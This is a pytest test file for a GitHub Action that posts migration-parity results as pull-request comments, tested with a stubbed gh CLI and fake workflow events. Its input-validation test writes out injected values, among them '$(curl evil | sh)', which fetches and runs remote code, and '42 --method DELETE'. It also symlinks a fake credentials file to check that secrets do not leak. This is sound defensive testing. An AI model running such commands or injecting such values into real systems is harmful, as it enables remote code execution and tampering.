"""The pull-request action: its comment script (action/pr_comment.py) run locally with a fake
event and a stubbed `gh` that records every call and keeps the pull request's comments in a
JSON file, on both sides of the fork pattern (the pull request's run writes the comment
artifact, a workflow_run job posts it and refuses a bad one); action.yml's own step scripts
(the golden input, the removed golden-dir); the wheel installs `verify` and no top-level
`cases`; and a throwaway migration repository runs the installed suite through action.yml's
own steps."""
import ast
import doctest
import importlib.util
import json
import os
import shutil
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
SCRIPT = ROOT / "action" / "pr_comment.py"
MARKER = "<!-- tf-migration-parity -->"
REPO = "owner/migration"

# `gh api` as the script calls it: GET .../issues/N/comments (printed as pages of two, the way
# --paginate prints them), POST a new comment, PATCH one by id, GET .../pulls/N (its head commit
# from GH_STUB_PULLS, {"N": sha}; a 404 for any other number). Every call goes to GH_STUB_LOG.
GH_STUB = '''#!{python}
import json, os, sys
from pathlib import Path

args = sys.argv[1:]
body = json.loads(Path(args[args.index("--input") + 1]).read_text()) if "--input" in args else None
with open(os.environ["GH_STUB_LOG"], "a") as log:
    log.write(json.dumps({{"argv": args, "body": body}}) + "\\n")
if os.environ.get("GH_STUB_FAIL"):
    sys.exit("HTTP 403: Resource not accessible by integration")
store = Path(os.environ["GH_STUB_COMMENTS"])
comments = json.loads(store.read_text()) if store.exists() else []
method = args[args.index("--method") + 1] if "--method" in args else "GET"
endpoint = next(a for a in args if a.startswith("repos/"))
if method == "GET" and "/pulls/" in endpoint:
    number = endpoint.rsplit("/", 1)[1]
    pulls = json.loads(os.environ.get("GH_STUB_PULLS", "{{}}"))
    if number not in pulls:
        sys.exit("gh: Not Found (HTTP 404)")
    print(json.dumps({{"number": int(number), "head": {{"sha": pulls[number]}}}}))
elif method == "GET" and endpoint.endswith("/comments"):
    for at in range(0, max(len(comments), 1), 2):
        print(json.dumps(comments[at:at + 2]))
elif method == "POST":
    comments.append({{"id": 1000 + len(comments), "body": body["body"]}})
    store.write_text(json.dumps(comments))
    print(json.dumps(comments[-1]))
elif method == "PATCH":
    comment_id = int(endpoint.rsplit("/", 1)[1])
    (match,) = [c for c in comments if c["id"] == comment_id]
    match["body"] = body["body"]
    store.write_text(json.dumps(comments))
    print(json.dumps(match))
else:
    sys.exit(f"gh stub: unexpected call {{args}}")
'''


class GitHub:
    """A fake GitHub around the comment script: event file, stubbed gh, recorded calls."""

    def __init__(self, tmp: Path, event: dict):
        self.tmp, self.bin = tmp, tmp / "bin"
        self.bin.mkdir(parents=True)
        gh = self.bin / "gh"
        gh.write_text(GH_STUB.format(python=sys.executable))
        gh.chmod(0o755)
        self.log, self.comments = tmp / "gh-calls.jsonl", tmp / "comments.json"
        self.event, self.step_summary = tmp / "event.json", tmp / "step-summary.md"
        self.event.write_text(json.dumps(event))
        self.comments.write_text(json.dumps([
            {"id": 7, "body": "LGTM, but run the suite on TPU too"},
            {"id": 8, "body": "second human comment"},
            {"id": 9, "body": "third human comment"}]))

    def env(self, **extra) -> dict:
        return {**os.environ, "PATH": f"{self.bin}{os.pathsep}{os.environ['PATH']}",
                "GH_STUB_LOG": str(self.log), "GH_STUB_COMMENTS": str(self.comments),
                "GITHUB_EVENT_PATH": str(self.event), "GITHUB_REPOSITORY": REPO,
                "GITHUB_STEP_SUMMARY": str(self.step_summary), **extra}

    def run(self, summary: str | None, status: int, *options: str,
            **env) -> subprocess.CompletedProcess:
        path = self.tmp / "reports" / "summary.md"
        path.parent.mkdir(exist_ok=True)
        if summary is None:
            path.unlink(missing_ok=True)
        else:
            path.write_text(summary)
        return subprocess.run([sys.executable, str(SCRIPT), "--summary", str(path),
                               "--status", str(status), "--run-url", "https://run/1", *options],
                              env=self.env(**env), capture_output=True, text=True, timeout=60)

    def post(self, artifact: Path, **env) -> subprocess.CompletedProcess:
        """The workflow_run side: post the comment from a downloaded comment artifact."""
        return subprocess.run([sys.executable, str(SCRIPT), "--from-artifact", str(artifact)],
                              env=self.env(**env), capture_output=True, text=True, timeout=60)

    def calls(self) -> list[dict]:
        if not self.log.exists():
            return []
        return [json.loads(line) for line in self.log.read_text().splitlines()]

    def ours(self) -> list[dict]:
        return [c for c in json.loads(self.comments.read_text()) if MARKER in c["body"]]


@pytest.fixture
def github(tmp_path):
    return GitHub(tmp_path, {"action": "synchronize", "pull_request": {"number": 42}})


def methods(calls: list[dict]) -> list[tuple[str, str]]:
    return [(c["argv"][c["argv"].index("--method") + 1] if "--method" in c["argv"] else "GET",
             next(a for a in c["argv"] if a.startswith("repos/"))) for c in calls]


def test_the_first_run_creates_a_comment_with_the_marker_and_the_summary(github):
    done = github.run("## Parity: PASS (3 pairs: 3 pass)\n\nthe table\n", 0)
    assert done.returncode == 0, done.stdout + done.stderr
    assert methods(github.calls()) == [("GET", f"repos/{REPO}/issues/42/comments"),
                                       ("POST", f"repos/{REPO}/issues/42/comments")]
    (comment,) = github.ours()
    assert comment["body"].startswith(MARKER + "\n")
    assert "suite exit status 0 (passed)" in comment["body"]
    assert "## Parity: PASS (3 pairs: 3 pass)\n\nthe table" in comment["body"]
    assert "https://run/1" in comment["body"]
    assert f"created comment {comment['id']} on {REPO}#42" in done.stdout
    assert github.step_summary.read_text().startswith("## Parity: PASS (3 pairs: 3 pass)")


def test_a_second_run_updates_that_comment_instead_of_adding_one(github):
    github.run("## Parity: FAIL (3 pairs: 1 fail, 2 pass)\n", 1)
    (first,) = github.ours()
    again = github.run("## Parity: PASS (3 pairs: 3 pass)\n", 0)
    assert again.returncode == 0, again.stdout + again.stderr
    second_run = github.calls()[2:]
    assert methods(second_run) == [("GET", f"repos/{REPO}/issues/42/comments"),
                                   ("PATCH", f"repos/{REPO}/issues/comments/{first['id']}")]
    assert "## Parity: PASS" in second_run[1]["body"]["body"]
    (comment,) = github.ours()        # still one comment of ours, now saying PASS
    assert comment["id"] == first["id"]
    assert "## Parity: PASS" in comment["body"] and "FAIL" not in comment["body"]
    assert len(json.loads(github.comments.read_text())) == 4   # three human comments + ours
    assert f"updated comment {first['id']} on {REPO}#42" in again.stdout


def test_outside_a_pull_request_nothing_is_posted_and_it_says_so(tmp_path):
    github = GitHub(tmp_path, {"ref": "refs/heads/main", "after": "abc123"})   # a push event
    done = github.run("## Parity: FAIL (1 pair: 1 fail)\n", 1)
    assert done.returncode == 1
    assert github.calls() == []
    assert "not a pull request" in done.stdout and "no comment posted" in done.stdout
    assert "## Parity: FAIL" in github.step_summary.read_text()   # the job summary still is


@pytest.mark.parametrize("status", [0, 1, 3, 4])
def test_the_exit_status_is_the_suites(github, status):
    done = github.run("## Parity: something\n", status)
    assert done.returncode == status
    assert f"suite exit status {status} (" in github.ours()[0]["body"]


def test_a_comment_that_cannot_be_posted_warns_and_keeps_the_suites_status(github, tmp_path):
    refused = github.run("## Parity: PASS\n", 0, GH_STUB_FAIL="1")
    assert refused.returncode == 0
    assert "::warning::pr_comment: no comment posted" in refused.stdout
    assert "HTTP 403" in refused.stdout
    empty = tmp_path / "empty-bin"
    empty.mkdir()
    missing = github.run("## Parity: FAIL\n", 1, PATH=str(empty))   # no gh anywhere
    assert missing.returncode == 1
    assert "the gh CLI is not on PATH" in missing.stdout
    assert github.ours() == []


def test_a_run_that_wrote_no_summary_says_so_in_the_comment(github):
    done = github.run(None, 3)
    assert done.returncode == 3
    body = github.ours()[0]["body"]
    assert "suite exit status 3 (internal error)" in body
    assert "wrote no summary.md" in body
    assert "does not exist" in done.stderr


def test_the_comment_script_uses_the_standard_library_only_and_its_examples_hold():
    tree = ast.parse(SCRIPT.read_text())
    imported = {alias.name.split(".")[0] for node in ast.walk(tree)
                if isinstance(node, ast.Import) for alias in node.names}
    imported |= {node.module.split(".")[0] for node in ast.walk(tree)
                 if isinstance(node, ast.ImportFrom) and node.module}
    assert imported - {"__future__"} <= set(sys.stdlib_module_names), imported
    spec = importlib.util.spec_from_file_location("pr_comment", SCRIPT)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    result = doctest.testmod(module)
    assert result.attempted >= 2 and result.failed == 0
    assert module._json_documents('[{"id": 1}]\n[{"id": 2}]\n') == [{"id": 1}, {"id": 2}]
    assert len(module.comment_body("x" * 70_000, 1)) < 65_536


# The fork pattern: the pull request's run (read-only token) writes what the comment needs
# (`--comment artifact`), the action uploads it, a workflow_run job downloads it and posts.
HEAD_SHA = "3f2c1e0d" * 5
RUN_URL = f"https://github.com/{REPO}/actions/runs/77"


def workflow_run_event(**run) -> dict:
    """A `workflow_run` event of a finished pull-request run (what the posting job gets)."""
    return {"action": "completed",
            "workflow_run": {"id": 77, "event": "pull_request", "conclusion": "failure",
                             "head_sha": HEAD_SHA, "html_url": RUN_URL, "pull_requests": [],
                             **run}}


def comment_artifact(tmp_path: Path, number: int = 42, status: int = 1,
                     summary: str | None = "## Parity: FAIL (3 pairs: 1 fail, 2 pass)\n") -> Path:
    """The comment artifact as the pull request's run writes it (the real script, --comment
    artifact), as the posting job finds it after the download."""
    github = GitHub(tmp_path / f"pr-run-{number}-{status}",
                    {"pull_request": {"number": number, "head": {"sha": HEAD_SHA}}})
    out = github.tmp / "comment-artifact"
    done = github.run(summary, status, "--comment", "artifact", "--comment-dir", str(out))
    assert done.returncode == status, done.stdout + done.stderr
    assert github.calls() == []
    return out


@pytest.fixture
def poster(tmp_path):
    """The workflow_run job's side: its event, and GitHub's pull request #42 at HEAD_SHA."""
    return GitHub(tmp_path / "poster", workflow_run_event())


PULLS = json.dumps({"42": HEAD_SHA})


def test_comment_artifact_writes_the_number_status_and_summary_and_posts_nothing(github):
    out = github.tmp / "parity-comment"
    done = github.run("## Parity: FAIL (3 pairs: 1 fail, 2 pass)\n", 1, "--comment", "artifact",
                      "--comment-dir", str(out))
    assert done.returncode == 1, done.stdout + done.stderr
    assert github.calls() == [] and github.ours() == []
    assert sorted(p.name for p in out.iterdir()) == ["pull-request.json", "summary.md"]
    assert json.loads((out / "pull-request.json").read_text()) == {"number": 42, "status": 1}
    assert (out / "summary.md").read_text() == "## Parity: FAIL (3 pairs: 1 fail, 2 pass)\n"
    assert "a workflow_run job posts the comment" in done.stdout
    assert "## Parity: FAIL" in github.step_summary.read_text()   # the job summary still is


def test_comment_off_posts_and_writes_nothing(github):
    done = github.run("## Parity: PASS\n", 0, "--comment", "off",
                      "--comment-dir", str(github.tmp / "parity-comment"))
    assert done.returncode == 0 and github.calls() == []
    assert not (github.tmp / "parity-comment").exists()
    assert "comment off: no comment posted" in done.stdout


def test_the_workflow_run_side_posts_then_updates_the_comment_from_the_artifact(tmp_path, poster):
    failing = comment_artifact(tmp_path, status=1)
    done = poster.post(failing, GH_STUB_PULLS=PULLS)
    assert done.returncode == 0, done.stdout + done.stderr
    assert methods(poster.calls()) == [("GET", f"repos/{REPO}/pulls/42"),
                                       ("GET", f"repos/{REPO}/issues/42/comments"),
                                       ("POST", f"repos/{REPO}/issues/42/comments")]
    (comment,) = poster.ours()
    assert comment["body"].startswith(MARKER + "\n")
    assert "suite exit status 1 (failed)" in comment["body"]
    assert "## Parity: FAIL (3 pairs: 1 fail, 2 pass)" in comment["body"]
    assert RUN_URL in comment["body"]            # the finished run's link, from the event
    assert f"created comment {comment['id']} on {REPO}#42" in done.stdout

    passing = comment_artifact(tmp_path, status=0, summary="## Parity: PASS (3 pairs: 3 pass)\n")
    again = poster.post(passing, GH_STUB_PULLS=PULLS)
    assert again.returncode == 0, again.stdout + again.stderr
    assert methods(poster.calls())[-1] == ("PATCH", f"repos/{REPO}/issues/comments/{comment['id']}")
    (updated,) = poster.ours()
    assert updated["id"] == comment["id"] and "## Parity: PASS" in updated["body"]
    assert "FAIL" not in updated["body"]


@pytest.mark.parametrize("context", [
    '{"number": "42", "status": 1}',                      # a string, even of digits
    '{"number": "42 --method DELETE", "status": 1}',
    '{"number": "$(curl evil | sh)", "status": 1}',
    '{"number": 42.0, "status": 1}',
    '{"number": true, "status": 1}',
    '{"number": 0, "status": 1}',
    '{"number": -42, "status": 1}',
    '{"number": 2147483648, "status": 1}',
    '{"number": [42], "status": 1}',
    '{"status": 1}',
    '[42, 1]',
    '42',
    'number=42',
    '{"number": 42, "status": "0"}',                      # the status is checked alike
    '{"number": 42, "status": 256}',
    '{"number": 42, "status": 1, "padding": "' + "x" * 5000 + '"}',
    "[" * 2000 + "]" * 2000,                               # nested past the recursion limit
    b"\xff\xfe{}".decode("latin-1"),
], ids=lambda c: c[:40])
def test_the_workflow_run_side_refuses_a_bad_pull_request_number_or_status(poster, context):
    artifact = poster.tmp / "artifact"
    artifact.mkdir()
    (artifact / "pull-request.json").write_text(context)
    (artifact / "summary.md").write_text("## Parity: PASS\n")
    done = poster.post(artifact, GH_STUB_PULLS=json.dumps({"42": HEAD_SHA}))
    assert done.returncode == 1, done.stdout + done.stderr
    assert "::error::pr_comment: the comment artifact is refused, nothing posted" in done.stdout
    assert poster.calls() == []                  # refused before any API call
    assert poster.ours() == []


def test_the_workflow_run_side_refuses_links_in_the_artifact(tmp_path, poster):
    secret = tmp_path / "runner-credentials"
    secret.write_text("ghs_not-for-the-comment")
    artifact = comment_artifact(tmp_path)
    (artifact / "summary.md").unlink()
    (artifact / "summary.md").symlink_to(secret)
    done = poster.post(artifact, GH_STUB_PULLS=PULLS)
    assert done.returncode == 1 and "summary.md cannot be opened as a regular file" in done.stdout
    context = comment_artifact(tmp_path, number=43) / "pull-request.json"
    linked = tmp_path / "linked"
    linked.mkdir()
    (linked / "pull-request.json").symlink_to(context)
    done = poster.post(linked, GH_STUB_PULLS=PULLS)
    assert done.returncode == 1 and "pull-request.json cannot be opened" in done.stdout
    assert poster.calls() == [] and "ghs_" not in (poster.log.read_text()
                                                   if poster.log.exists() else "")


def test_the_workflow_run_side_posts_only_on_the_pull_request_whose_head_the_run_tested(
        tmp_path, poster):
    # the artifact names another pull request (#7, whose head is another commit), or the
    # pull request moved on since the run: nothing is posted, and it says why
    other = comment_artifact(tmp_path, number=7)
    done = poster.post(other, GH_STUB_PULLS=json.dumps({"7": "9" * 40, "42": HEAD_SHA}))
    assert done.returncode == 0, done.stdout + done.stderr
    assert methods(poster.calls()) == [("GET", f"repos/{REPO}/pulls/7")]
    assert "not posting" in done.stdout and poster.ours() == []
    missing = comment_artifact(tmp_path, number=404)     # no such pull request: an API error
    done = poster.post(missing, GH_STUB_PULLS=PULLS)
    assert done.returncode == 1 and "HTTP 404" in done.stdout
    assert poster.ours() == []


def test_the_workflow_run_side_posts_nothing_for_other_runs(tmp_path):
    artifact = comment_artifact(tmp_path)
    push = GitHub(tmp_path / "push", workflow_run_event(event="push"))
    done = push.post(artifact, GH_STUB_PULLS=PULLS)
    assert done.returncode == 0 and "not a pull request" in done.stdout
    assert push.calls() == []
    wrong = GitHub(tmp_path / "wrong", {"pull_request": {"number": 42}})   # not workflow_run
    done = wrong.post(artifact, GH_STUB_PULLS=PULLS)
    assert done.returncode == 1 and "on: workflow_run" in done.stdout
    assert wrong.calls() == []
    nothing = GitHub(tmp_path / "nothing", workflow_run_event())
    done = nothing.post(tmp_path / "not-downloaded", GH_STUB_PULLS=PULLS)
    assert done.returncode == 1 and "holds no pull-request.json" in done.stdout


def test_the_post_comment_action_downloads_the_finished_runs_artifact_and_posts_it(
        tmp_path, poster):
    """action/post-comment/action.yml's own steps: the download (by the run's id, into the
    directory the next step reads) and the script the runner runs."""
    action = ROOT / "action" / "post-comment" / "action.yml"
    inputs = load_yaml_file(action)["inputs"]
    assert inputs["artifact-name"]["default"] == \
        load_yaml_file(ROOT / "action.yml")["inputs"]["comment-artifact-name"]["default"]
    download = action_step("Download the finished run's comment artifact", action)
    assert download["uses"].startswith("actions/download-artifact@")
    assert download["with"]["run-id"] == "${{ github.event.workflow_run.id }}"
    assert download["with"]["name"] == "${{ inputs.artifact-name }}"
    post = action_step("Post or update the pull request's comment", action)
    assert post["env"]["ARTIFACT_DIR"] == download["with"]["path"]
    assert "${{" not in post["run"]
    artifact = comment_artifact(tmp_path)
    (poster.bin / "python3").write_text(f'#!/bin/sh\nexec "{sys.executable}" "$@"\n')
    (poster.bin / "python3").chmod(0o755)
    done = subprocess.run(["bash", "-eo", "pipefail", "-c", post["run"]], cwd=tmp_path,
                          env=poster.env(ACTION_PATH=str(action.parent),
                                         ARTIFACT_DIR=str(artifact), GH_STUB_PULLS=PULLS),
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stdout + done.stderr
    (comment,) = poster.ours()
    assert "## Parity: FAIL (3 pairs: 1 fail, 2 pass)" in comment["body"]


def fake_python(bin_dir: Path, record: Path) -> None:
    """`python` for action.yml's suite step: `python -m verify ...` records its arguments and
    exits 1 (a failing pair); anything else is this interpreter."""
    (bin_dir / "python").write_text(
        f'#!/bin/sh\nif [ "$1" = "-m" ] && [ "$2" = "verify" ]; then\n'
        f'  printf "%s\\0" "$@" > "{record}"; exit 1\nfi\nexec "{sys.executable}" "$@"\n')
    (bin_dir / "python").chmod(0o755)


@pytest.mark.parametrize("golden, expected", [
    ("", []),
    ("goldens/tf1 refs", ["--golden", "goldens/tf1 refs"]),
])
def test_the_golden_input_passes_golden_dir_to_the_suite(tmp_path, golden, expected):
    record, outputs = tmp_path / "argv", tmp_path / "github-output"
    (tmp_path / "bin").mkdir()
    fake_python(tmp_path / "bin", record)
    env = {**os.environ, "PATH": f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}",
           "CASES": "parity_cases", "PYTEST_OPTIONS": "-n 2 -k 'a or b'", "GOLDEN": golden,
           "GITHUB_OUTPUT": str(outputs)}
    done = subprocess.run(["bash", "-eo", "pipefail", "-c", step_script("Run the parity suite")],
                          cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stdout + done.stderr
    assert outputs.read_text() == "status=1\n"
    argv = record.read_text().split("\0")[:-1]
    assert argv == ["-m", "verify", "suite", "--cases", "parity_cases", "--report-dir", "reports",
                    "-n", "2", "-k", "a or b", *expected]


def test_the_action_describes_golden_and_stops_on_the_removed_golden_dir(tmp_path):
    inputs = load_yaml_file(ROOT / "action.yml")["inputs"]
    assert "`--golden DIR`" in inputs["golden"]["description"]
    assert "--save-golden" in inputs["golden"]["description"]
    assert "NOT implemented" not in json.dumps(inputs)
    assert inputs["golden-dir"]["description"].startswith("Removed: use `golden`")
    assert inputs["comment"]["default"] == "post"
    check = step_script("Check the inputs")
    assert load_yaml_file(ROOT / "action.yml")["runs"]["steps"][0]["name"] == "Check the inputs"

    def run(**env):
        return subprocess.run(["bash", "-eo", "pipefail", "-c", check], cwd=tmp_path,
                              env={**os.environ, "GOLDEN_DIR": "", "COMMENT": "post", **env},
                              capture_output=True, text=True, timeout=60)

    assert run().returncode == 0
    removed = run(GOLDEN_DIR="goldens/")
    assert removed.returncode == 2
    assert "golden-dir input was removed" in removed.stdout
    assert "use 'golden: DIR'" in removed.stdout
    for mode in ("post", "artifact", "off"):
        assert run(COMMENT=mode).returncode == 0
    assert run(COMMENT="yes").returncode == 2


def test_the_action_uploads_the_comment_artifact_only_when_asked():
    steps = {s.get("name"): s for s in load_yaml_file(ROOT / "action.yml")["runs"]["steps"]}
    comment = steps["Job summary and pull-request comment"]
    assert '--comment "$COMMENT" --comment-dir "$COMMENT_DIR"' in comment["run"]
    assert comment["env"]["COMMENT"] == "${{ inputs.comment }}"
    upload = steps["Upload what the comment needs"]
    assert "inputs.comment == 'artifact'" in upload["if"]
    assert upload["with"]["path"].rstrip("/") == comment["env"]["COMMENT_DIR"]
    assert upload["with"]["name"] == "${{ inputs.comment-artifact-name }}"
    names = list(steps)
    assert names.index("Upload what the comment needs") > names.index(
        "Job summary and pull-request comment")
    for step in steps.values():                    # values reach scripts through env: only
        assert "${{" not in step.get("run", "")


def test_the_suite_command_passes_pytest_options_through_from_the_working_directory():
    from verify.session.suite import parity_test_file, suite_command

    command = suite_command(["--", "--cases", "parity_cases", "-n", "2", "-k", "a or b"],
                            cwd=Path("/repo"))
    assert command[0] == str(parity_test_file()) and parity_test_file().parent.name == "verify"
    assert command[command.index("-p") + 1] == "verify.session.plugin"
    assert command[command.index("-c") + 1] == os.devnull   # not the repository's own config
    assert command[-8:] == ["--rootdir", "/repo", "--cases", "parity_cases", "-n", "2", "-k",
                            "a or b"]
    assert suite_command(["--rootdir=/elsewhere"], cwd=Path("/repo")).count("/repo") == 0


def build_wheel(out: Path) -> Path:
    """The project's wheel, built from a copy of its files (the checkout stays untouched)."""
    source = out / "source"
    source.mkdir(parents=True)
    for name in ("pyproject.toml", "README.md"):
        shutil.copy(ROOT / name, source / name)
    for name in ("verify", "cases"):
        shutil.copytree(ROOT / name, source / name,
                        ignore=shutil.ignore_patterns("__pycache__"))
    done = subprocess.run([sys.executable, "-m", "pip", "wheel", "--no-deps",
                           "--no-build-isolation", "--no-cache-dir", "--disable-pip-version-check",
                           "-w", str(out / "dist"), str(source)],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    (wheel,) = (out / "dist").glob("*.whl")
    return wheel


def test_the_wheel_installs_verify_and_no_top_level_cases(tmp_path):
    wheel = zipfile.ZipFile(build_wheel(tmp_path))
    names = wheel.namelist()
    tops = {n.split("/")[0] for n in names if not n.split("/")[0].endswith(".dist-info")}
    assert tops == {"verify"}
    for module in ("verify/test_parity.py", "verify/session/plugin.py", "verify/session/suite.py",
                   "verify/core/case.py", "verify/render/html.py"):
        assert module in names
    entry_points = next(n for n in names if n.endswith(".dist-info/entry_points.txt"))
    text = wheel.read(entry_points).decode()
    assert "tf-migration-parity = verify.__main__:main" in text


# The migration repository's own case, in its own `cases/` package (the action's default).
REPO_CASE = '''
import os

import numpy as np

from verify import Case, Examples, Expectation, Implementation, NameMap, Tolerance, Tolerances


class QuadraticRunner:
    uses_tensorflow = False   # numpy only: no TensorFlow state to start fresh

    def __init__(self, name, lr=0.1, grad_offset=0.0):
        self.name, self.lr, self.grad_offset = name, lr, grad_offset

    def run(self, request):
        if os.environ.get("PARITY_MUST_NOT_RUN") == self.name:   # a golden stands for it
            raise RuntimeError(f"{self.name} ran although its golden was given")
        trace = request.trace
        w = np.asarray(request.initial_values["w"], np.float32)
        trace.record(0, "weight", "w", w)
        for step in range(1, request.steps + 1):
            grad = (w + self.grad_offset).astype(np.float32)
            trace.record(step, "loss", "loss", np.float32((w ** 2).sum() / 2))
            trace.record(step, "grad", "w", grad)
            w = (w - np.float32(self.lr) * grad).astype(np.float32)
            trace.record(step, "weight", "w", w)
        return trace

    def describe(self):
        return {"api": "numpy"}

    def declared_config(self, case, implementation):
        return {"optimizer/model/kind": "sgd", "optimizer/model/learning_rate": self.lr}


def side(name, expect=None, **kw):
    return Implementation(name, QuadraticRunner(name, **kw), NameMap({"w": "w"}), expect=expect)


CASE = Case(
    name="repo_quadratic", examples=Examples({"x": np.zeros((4, 1))}, labels=np.zeros(4)),
    batch_size=2, steps=3, initial_values={"w": np.linspace(1, 2, 4, dtype=np.float32)},
    implementations=(side("old"), side("new"), side("new-offset", grad_offset=0.5)),
    reference="old", seed=3, pairs=(("old", "new"), ("old", "new-offset")),
    tolerances=Tolerances.default().override(weight=Tolerance(1e-5, 1e-5)))
'''


def load_yaml(text: str):
    """A workflow or action file as data. YAML 1.1 reads a bare `on` key as True; GitHub means
    the trigger, so it is given back as "on"."""
    data = yaml.safe_load(text)
    if isinstance(data, dict) and True in data:
        data = {("on" if k is True else k): v for k, v in data.items()}
    return data


def load_yaml_file(path: Path):
    return load_yaml(path.read_text())


def action_step(name: str, action: Path = ROOT / "action.yml") -> dict:
    """One of a composite action's steps, by name (its `run` is the shell script the runner
    executes)."""
    steps = load_yaml_file(action)["runs"]["steps"]
    (step,) = [s for s in steps if s.get("name") == name]
    return step


def step_script(name: str, action: Path = ROOT / "action.yml") -> str:
    """The shell script of one of a composite action's bash steps, as the runner runs it."""
    step = action_step(name, action)
    assert step.get("shell") == "bash"
    return step["run"]


@pytest.mark.slow   # runs the parity suite (pytest, TensorFlow's import) in a subprocess
def test_a_throwaway_repository_runs_the_installed_suite_through_the_actions_steps(tmp_path):
    repo = tmp_path / "migration"
    (repo / "cases").mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    (repo / "cases" / "__init__.py").write_text("")
    (repo / "cases" / "quadratic.py").write_text(textwrap.dedent(REPO_CASE))
    site = tmp_path / "site"     # the suite installed from its wheel: no checkout on sys.path
    subprocess.run([sys.executable, "-m", "pip", "install", "--quiet", "--no-deps",
                    "--disable-pip-version-check", "--target", str(site),
                    str(build_wheel(tmp_path / "wheel"))], check=True, timeout=300)
    assert not (site / "cases").exists()
    github = GitHub(tmp_path, {"pull_request": {"number": 5}})
    # `python` on the action's PATH is this interpreter: a script that runs it by its own path
    # (a symlink to a virtual environment's python, placed elsewhere, starts the base
    # interpreter without the environment's packages)
    (github.bin / "python").write_text(f'#!/bin/sh\nexec "{sys.executable}" "$@"\n')
    (github.bin / "python").chmod(0o755)
    outputs = tmp_path / "github-output"
    env = github.env(PYTHONPATH=str(site), TF_CPP_MIN_LOG_LEVEL="3", GITHUB_OUTPUT=str(outputs),
                     CASES="cases", PYTEST_OPTIONS="-p no:cacheprovider --replicas 1 "
                     "-k 'repo_quadratic and old' --save-golden goldens",
                     GOLDEN="", ACTION_PATH=str(ROOT), RUN_URL="https://run/9", COMMENT="post",
                     COMMENT_DIR=str(tmp_path / "parity-comment"))
    where = subprocess.run(["python", "-c", "import verify; print(verify.__file__)"], cwd=repo,
                           env=env, capture_output=True, text=True, check=True).stdout
    assert where.startswith(str(site)), where

    suite = subprocess.run(["bash", "-eo", "pipefail", "-c", step_script("Run the parity suite")],
                           cwd=repo, env=env, capture_output=True, text=True, timeout=600)
    assert outputs.read_text() == "status=1\n", suite.stdout[-4000:] + suite.stderr[-3000:]
    assert "FAILED" in suite.stdout and "repo_quadratic:old-vs-new-offset" in suite.stdout
    for name in ("summary.md", "report.html", "summary.csv", "run.json"):
        assert (repo / "reports" / name).is_file(), name
    summary = (repo / "reports" / "summary.md").read_text()
    assert summary.startswith("## Parity: FAIL (2 pairs: 1 fail, 1 pass)"), summary[:300]
    assert any((repo / "goldens").rglob("*")), "--save-golden (through pytest-options) stored none"

    env["STATUS"] = outputs.read_text().split("=")[1].strip()
    comment = subprocess.run(["bash", "-eo", "pipefail", "-c",
                              step_script("Job summary and pull-request comment")],
                             cwd=repo, env=env, capture_output=True, text=True, timeout=60)
    assert comment.returncode == 1, comment.stdout + comment.stderr
    (posted,) = github.ours()
    assert posted["body"].startswith(MARKER)
    assert "suite exit status 1 (failed)" in posted["body"] and "https://run/9" in posted["body"]
    assert summary.strip() in posted["body"]
    assert github.step_summary.read_text().strip() == summary.strip()

    # a push to the same pull request runs the action again: the comment is updated, not added
    again = subprocess.run(["bash", "-eo", "pipefail", "-c",
                            step_script("Job summary and pull-request comment")],
                           cwd=repo, env=env, capture_output=True, text=True, timeout=60)
    assert again.returncode == 1, again.stdout + again.stderr
    (updated,) = github.ours()
    assert updated["id"] == posted["id"] and summary.strip() in updated["body"]
    assert methods(github.calls())[-1] == (
        "PATCH", f"repos/{REPO}/issues/comments/{posted['id']}")

    # the golden input: the reference `old` is read from the goldens just stored, never run
    # (it raises if it runs), and the verdict is the same
    outputs.unlink()
    shutil.rmtree(repo / "reports")
    golden_env = {**env, "GOLDEN": "goldens", "PARITY_MUST_NOT_RUN": "old",
                  "PYTEST_OPTIONS": "-p no:cacheprovider --replicas 1 -k 'repo_quadratic and old'"}
    from_goldens = subprocess.run(["bash", "-eo", "pipefail", "-c",
                                   step_script("Run the parity suite")],
                                  cwd=repo, env=golden_env, capture_output=True, text=True,
                                  timeout=600)
    assert outputs.read_text() == "status=1\n", (from_goldens.stdout[-4000:]
                                                 + from_goldens.stderr[-3000:])
    assert "although its golden was given" not in from_goldens.stdout + from_goldens.stderr
    golden_summary = (repo / "reports" / "summary.md").read_text()
    assert golden_summary.startswith("## Parity: FAIL (2 pairs: 1 fail, 1 pass)"), \
        golden_summary[:300]
    # and without the golden, the same reference does run (the check above can fail)
    outputs.unlink()
    shutil.rmtree(repo / "reports")
    ran = subprocess.run(["bash", "-eo", "pipefail", "-c", step_script("Run the parity suite")],
                         cwd=repo, env={**golden_env, "GOLDEN": ""}, capture_output=True,
                         text=True, timeout=600)
    assert outputs.read_text() != "status=0\n"
    assert "although its golden was given" in ran.stdout + ran.stderr + (
        (repo / "reports" / "summary.md").read_text()
        if (repo / "reports" / "summary.md").is_file() else "")
